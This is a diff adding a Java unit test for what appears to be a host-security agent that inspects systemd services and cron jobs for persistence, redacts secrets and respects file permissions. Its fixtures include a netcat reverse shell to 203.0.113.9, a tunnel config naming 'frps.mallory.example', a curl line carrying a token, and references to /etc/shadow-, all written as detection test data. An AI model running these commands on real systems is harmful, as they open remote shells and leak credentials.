@@ -1,0 +1,108 @@
+package bzh.vigie.agent.persistence;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+import bzh.vigie.event.Item;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.security.MessageDigest;
+import java.util.HexFormat;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What is told of scripts, environments and files that commands name. Digests are those of sha256sum. */
+final class ScriptsTest {
+    private static final String TOKEN = "2aVbNcXzLk7JhGfDsApOi4UyTrEwQ";
+    private static final String DIGEST = "secret=08fba5e7ac17";
+
+    @TempDir
+    Path root;
+
+    @Test
+    void aServiceTellsOfItsEnvironmentItsScriptAndItsConfiguration() throws IOException {
+        String unit = "[Service]\nExecStart=%s\n";
+        Trees.write(root, "/opt/a/run.sh", "#!/bin/sh\nexec nc 203.0.113.9 4444 -e /bin/sh\n");
+        Trees.write(root, "/opt/a/a.toml", "server = \"frps.mallory.example\"\ntoken = \"" + TOKEN + "\"\n");
+        Trees.write(root, "/opt/a/env", "TUNNEL_TOKEN=" + TOKEN + "\n");
+        service("script", unit.formatted("/opt/a/run.sh"));
+        service("shell", unit.formatted("/bin/bash -e /opt/a/run.sh"));
+        service("option", unit.formatted("/opt/a/agent -c /opt/a/a.toml"));
+        service("file", unit.formatted("/opt/a/agent") + "EnvironmentFile=-/opt/a/env\n");
+        service("variable", unit.formatted("/opt/a/agent") + "Environment=\"TUNNEL_TOKEN=" + TOKEN + "\"\n");
+        service("argument", unit.formatted("/opt/a/agent /opt/a/env"));
+        assertEquals(List.of("address=203.0.113.9"), observables("script"));
+        assertEquals(List.of("address=203.0.113.9"), observables("shell"));
+        assertEquals(List.of("host=frps.mallory.example", DIGEST), observables("option"));
+        assertEquals(List.of(DIGEST), observables("file"));
+        assertEquals(List.of(DIGEST), observables("variable"));
+        assertEquals(List.of(), observables("argument"), "it may be anything, such as what it backs up");
+    }
+
+    @Test
+    void aDropInTellsNoValuesOfVariables() throws IOException {
+        Trees.write(
+                root,
+                "/etc/systemd/system/tunnel.service.d/x.conf",
+                "[Service]\nEnvironment=TUNNEL_TOKEN=" + TOKEN + " \"B=c d\"\n");
+        Item item = items().getFirst();
+        assertEquals("Environment=TUNNEL_TOKEN=… B=…", item.value());
+        assertEquals(List.of(DIGEST), item.observables());
+        assertFalse(item.toString().contains(TOKEN));
+    }
+
+    @Test
+    void aPackagesOwnScriptIsNotLookedInto() throws Exception {
+        String script = "#!/bin/sh\ncurl https://updates.vendor.example/x?k=" + TOKEN + "\n";
+        Trees.write(root, "/usr/lib/town/run", script);
+        Trees.write(root, "/var/lib/dpkg/status", "Package: town\nStatus: install ok installed\nVersion: 1\n\n");
+        Trees.write(root, "/var/lib/dpkg/info/town.list", "/.\n/usr/lib/town/run\n");
+        String md5 = HexFormat.of()
+                .formatHex(MessageDigest.getInstance("MD5").digest(script.getBytes(StandardCharsets.UTF_8)));
+        Trees.write(root, "/var/lib/dpkg/info/town.md5sums", md5 + "  usr/lib/town/run\n");
+        service("town", "[Service]\nExecStart=/usr/lib/town/run\n");
+        assertEquals(List.of(), observables("town"));
+        Trees.write(root, "/usr/lib/town/run", script + "#\n");
+        assertEquals(List.of("host=updates.vendor.example", DIGEST), observables("town"), "somebody changed it");
+    }
+
+    /** A job of a user must not make the agent, which runs as the superuser, tell of what that user may not read. */
+    @Test
+    void anItemOfAUserLeadsToNoFileThatTheUserMayNotRead() throws IOException {
+        Trees.write(root, "/etc/passwd", "lea:x:4711:4711::/home/lea:/bin/sh\n");
+        Trees.write(root, "/srv/secret.conf", "token=" + TOKEN + "\n");
+        Trees.write(root, "/etc/shadow-", "token=" + TOKEN + "\n");
+        Trees.write(
+                root,
+                "/var/spool/cron/crontabs/lea",
+                "0 1 * * * /home/lea/x --config /srv/secret.conf --file=/etc/shadow-\n1 1 * * * sh /srv/secret.conf\n");
+        Path secret = root.resolve("srv/secret.conf");
+        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r-----"));
+        items().forEach(item -> assertEquals(List.of(), item.observables(), item.value()));
+        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r--r--"));
+        assertEquals(2, items().size());
+        items().forEach(item -> assertEquals(List.of(DIGEST), item.observables(), item.value()));
+    }
+
+    private void service(String name, String text) throws IOException {
+        Trees.write(root, "/etc/systemd/system/" + name + ".service", text);
+    }
+
+    private List<String> observables(String service) {
+        return items().stream()
+                .filter(item -> item.name().equals(service + ".service:ExecStart"))
+                .findFirst()
+                .orElseThrow()
+                .observables();
+    }
+
+    private List<Item> items() {
+        return Scanned.linux(
+                        root, location -> location.startsWith("linux.systemd.") || location.equals("linux.cron.user"))
+                .items();
+    }
+}
